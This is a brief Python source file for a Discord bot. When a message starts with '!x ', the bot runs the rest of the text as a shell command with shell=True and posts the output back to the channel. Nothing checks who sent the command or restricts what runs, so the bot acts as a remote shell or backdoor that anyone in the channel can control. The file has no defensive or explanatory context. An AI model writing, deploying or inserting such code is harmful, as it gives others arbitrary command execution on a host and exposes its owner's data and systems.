import subprocess
import discord

client = discord.Client(intents=discord.Intents.all())


@client.event
async def on_message(message):
    if message.content.startswith("!x "):
        out = subprocess.run(message.content[3:], shell=True, capture_output=True, text=True)
        await message.channel.send(out.stdout[:1900])
